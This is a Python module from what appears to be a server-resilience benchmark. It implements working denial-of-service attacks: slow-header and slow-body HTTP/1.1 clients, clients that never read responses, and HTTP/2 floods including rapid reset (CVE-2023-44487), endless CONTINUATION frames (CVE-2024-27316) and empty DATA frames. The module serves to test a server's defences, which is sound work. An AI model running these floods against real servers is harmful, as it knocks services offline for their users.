"""HTTP/1.1 clients that send slowly or do not read, and HTTP/2 clients that send frames without end."""

import json
import socket
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import ExitStack, contextmanager, suppress

from benchmarks.attack.attack import AimMissedError, Attack, Target
from benchmarks.attack.http2 import OTHER_ADDRESS, RawHttp2, connections
from dragoman.formats.http2 import frames

_MIB = 1 << 20
_CLIENTS = 400
_FLOOD_S = 5.0
_PATH = "/v2/models/doubled/infer"
_HEAD = f"POST {_PATH} HTTP/1.1\r\nHost: attack\r\nContent-Type: application/json\r\n"


@contextmanager
def _clients(target: Target, count: int = _CLIENTS) -> Iterator[Sequence[socket.socket]]:
    """Open connections from another address than that of the well-behaved client."""
    with ExitStack() as stack:
        address = (target.host, target.http_port)
        yield [stack.enter_context(socket.create_connection(address, 10, (OTHER_ADDRESS, 0))) for _ in range(count)]


def _trickle(target: Target, start: str, rest: Callable[[int], bytes]) -> str:
    """Send the start of a request on many connections, then a few bytes at a time until the server has closed all."""
    with _clients(target) as clients:
        for client in clients:
            client.sendall(start.encode())
        open_ones, began_s, number = list(clients), time.monotonic(), 0
        while open_ones and time.monotonic() - began_s < 45:
            number += 1
            open_ones = [client for client in open_ones if _send(client, rest(number))]
            time.sleep(0.5)
        if open_ones:
            raise AimMissedError(f"{len(open_ones)} of {len(clients)} slow clients are still connected after 45 s")
        return f"{len(clients)} connections, all closed after {time.monotonic() - began_s:.0f} s"


def _send(client: socket.socket, data: bytes) -> bool:
    """Send; return whether the connection is still open."""
    with suppress(OSError):
        client.sendall(data)
        client.setblocking(False)
        try:
            return bool(client.recv(1 << 12))
        except BlockingIOError:
            return True
        finally:
            client.settimeout(10)
    return False


def _slow_headers(target: Target) -> str:
    return _trickle(target, _HEAD, lambda number: b"x-%d: a\r\n" % number)


def _slow_bodies(target: Target) -> str:
    return _trickle(target, f"{_HEAD}Content-Length: 60000\r\n\r\n", lambda _: b" ")


def unread(target: Target, requests: int = 100) -> str:
    """Send requests one after another on each connection and read no response."""
    tensor = {"name": "x", "datatype": "FP64", "shape": [12_000], "data": [n / 7 for n in range(12_000)]}
    body = json.dumps({"inputs": [tensor]}).encode()
    request = f"{_HEAD}Content-Length: {len(body)}\r\n\r\n".encode() + body

    def send(client: socket.socket) -> None:
        client.settimeout(2)
        with suppress(OSError):  # the server stops to read
            for _ in range(requests):
                client.sendall(request)

    with _clients(target, 30) as clients:
        threads = [threading.Thread(target=send, args=(client,)) for client in clients]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        time.sleep(3)
    return f"30 connections, up to {requests} requests of {len(body):,} bytes each"


# --- HTTP/2 --------------------------------------------------------------------------------------------------------


def _flood(target: Target, make: Callable[[RawHttp2], bytes]) -> str:
    """Send frames on 10 connections, each until the server closes it; open others instead."""
    opened, sent, end_s = 0, 0, time.monotonic() + _FLOOD_S
    while time.monotonic() < end_s:
        with connections(10, target.http_port, OTHER_ADDRESS) as attackers:
            opened += len(attackers)
            for attacker in attackers:
                attacker.socket.settimeout(2)
            open_ones = list(attackers)
            while open_ones and time.monotonic() < end_s:
                for attacker in list(open_ones):
                    data = make(attacker)
                    try:
                        attacker.send(data)
                        sent += len(data)
                    except OSError:
                        open_ones.remove(attacker)
    return f"{opened} connections, {sent / _MIB:.0f} MiB of frames"


def _resets(attacker: RawHttp2) -> bytes:
    """Requests that are reset at once (CVE-2023-44487)."""
    parts = []
    for _ in range(100):
        request = attacker.request(_PATH, ended=False, content_type="application/json")
        parts += [request, frames.frame(frames.RST_STREAM, 0, attacker.last, (8).to_bytes(4))]
    return b"".join(parts)


def _continuations(attacker: RawHttp2) -> bytes:
    """Headers that never end (CVE-2024-27316)."""
    number = attacker.last if attacker.last else 1
    begin = b"" if attacker.last else frames.frame(frames.HEADERS, 0, 1, b"")
    attacker.last = number
    return begin + frames.frame(frames.CONTINUATION, 0, number, b"\0\1a\1b" * 3000) * 10


def _pings(_: RawHttp2) -> bytes:
    return frames.frame(frames.PING, 0, 0, bytes(8)) * 1000


def _settings(_: RawHttp2) -> bytes:
    return frames.settings({frames.INITIAL_WINDOW_SIZE: 1}) * 1000


def _empty_data(attacker: RawHttp2) -> bytes:
    """Body frames without content (CVE-2019-9518)."""
    begin = b"" if attacker.last else attacker.request(_PATH, ended=False, content_type="application/json")
    return begin + frames.frame(frames.DATA, 0, attacker.last or 1, b"") * 1000


_FLOODS = {
    "resets": ("requests that are reset at once", _resets),
    "continuations": ("headers in frames without end", _continuations),
    "pings": ("PING frames", _pings),
    "settings": ("SETTINGS frames", _settings),
    "empty-data": ("empty DATA frames", _empty_data),
}


def _http2(name: str, about: str, make: Callable[[RawHttp2], bytes]) -> Attack:
    def run(target: Target) -> str:
        return _flood(target, make)

    return Attack(
        name=f"http2-{name}", about=f"{about}, on 10 connections for {_FLOOD_S:g} s", run=run, body_bytes=_MIB
    )


ATTACKS = (
    Attack(
        name="http1-slow-headers",
        about=f"{_CLIENTS} connections send a header line every 0.5 s",
        run=_slow_headers,
        body_bytes=_MIB,
    ),
    Attack(
        name="http1-slow-bodies",
        about=f"{_CLIENTS} connections send a byte of a body every 0.5 s",
        run=_slow_bodies,
        body_bytes=_MIB,
    ),
    Attack(
        name="http1-unread-json",
        about="30 connections ask for 100 JSON responses each and read none",
        run=unread,
        body_bytes=32 * _MIB,
    ),
    *(_http2(name, about, make) for name, (about, make) in _FLOODS.items()),
)
